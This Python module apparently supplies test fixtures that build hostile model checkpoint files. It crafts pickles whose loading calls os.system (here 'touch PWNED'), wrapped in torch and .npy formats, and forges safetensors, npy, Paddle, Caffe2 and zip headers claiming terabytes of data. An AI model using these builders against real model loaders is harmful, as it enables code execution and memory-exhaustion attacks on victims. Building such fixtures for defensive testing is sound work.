"""Builders of hostile checkpoint files: pickles that call ``os.system`` and headers that
claim terabytes. Nothing here runs a pickle; the bytes are assembled by hand."""

from __future__ import annotations

import io
import struct
import zipfile

CMD = "touch PWNED"


def reduce_pickle(module: str = "posix", name: str = "system", arg: str = CMD) -> bytes:
    """A protocol-2 pickle whose load calls ``module.name(arg)``."""
    raw = arg.encode()
    return (b"\x80\x02c" + f"{module}\n{name}\n".encode() + b"X" + struct.pack("<I", len(raw))
            + raw + b"\x85R.")  # fmt: skip


def torch_zip(pickle_bytes: bytes | None = None) -> bytes:
    """A torch.save zip archive whose ``data.pkl`` is ``pickle_bytes`` (default: hostile)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("archive/data.pkl", pickle_bytes or reduce_pickle())
        zf.writestr("archive/byteorder", "little")
        zf.writestr("archive/version", "3\n")
    return buf.getvalue()


def torch_legacy(pickle_bytes: bytes | None = None) -> bytes:
    """A legacy (pre-1.6) torch.save stream: magic number pickle first, then the payload."""
    magic = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."  # 0x1950a86a20f9469cfc6c
    return magic + (pickle_bytes or reduce_pickle())


def npy(descr: str, shape: tuple, payload: bytes) -> bytes:
    """A version-1 ``.npy`` file with the given header and payload."""
    header = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': {shape!r}, }}"
    header = header.ljust(118) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + payload


def npy_object() -> bytes:
    """An object-dtype ``.npy`` (needs allow_pickle) whose pickle calls ``os.system``."""
    return npy("|O", (1,), reduce_pickle())


def npz(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def safetensors_huge_header() -> bytes:
    """A safetensors file whose header length claims 1 TiB."""
    return struct.pack("<Q", 1 << 40) + b'{"w": {}}'


def safetensors_huge_tensor() -> bytes:
    """A valid header whose tensor claims 4 TiB of float32 (offsets too)."""
    n = 1 << 40
    head = f'{{"w":{{"dtype":"F32","shape":[{n}],"data_offsets":[0,{4 * n}]}}}}'.encode()
    return struct.pack("<Q", len(head)) + head + b"\0" * 16


def npy_huge() -> bytes:
    """A float32 ``.npy`` claiming 2**40 elements with 16 bytes of data."""
    return npy("<f4", (1 << 40,), b"\0" * 16)


def paddle_tensor_huge() -> bytes:
    """A Paddle LoDTensor stream whose TensorDesc claims dims [2**20, 2**20] of float32."""

    def varint(v: int) -> bytes:
        out = b""
        while True:
            b, v = v & 0x7F, v >> 7
            out += bytes([b | (0x80 if v else 0)])
            if not v:
                return out

    dims = b"".join(b"\x10" + varint(1 << 20) for _ in range(2))
    desc = b"\x08\x05" + dims  # data_type FP32 (5), dims
    return (struct.pack("<I", 0) + struct.pack("<Q", 0) + struct.pack("<I", 0)
            + struct.pack("<i", len(desc)) + desc + b"\0" * 16)  # fmt: skip


def caffe2_huge_record(key: bytes = b"w") -> bytes:
    """A minidb whose first record claims a 2 GiB value."""
    return struct.pack("<ii", len(key), 0x7FFFFFFF) + key + b"\x0a\x01w"


def zip_huge_member(name: str = "w.npy") -> bytes:
    """An npz whose central directory claims a 1 TiB member (zip64 sizes rewritten)."""
    data = npz({name: npy("<f4", (4,), b"\0" * 16)})
    cd = data.rfind(b"PK\x01\x02")
    buf = bytearray(data)
    buf[cd + 20 : cd + 28] = struct.pack("<II", 0xFFFFFFFE, 0xFFFFFFFE)  # csize, usize
    return bytes(buf)
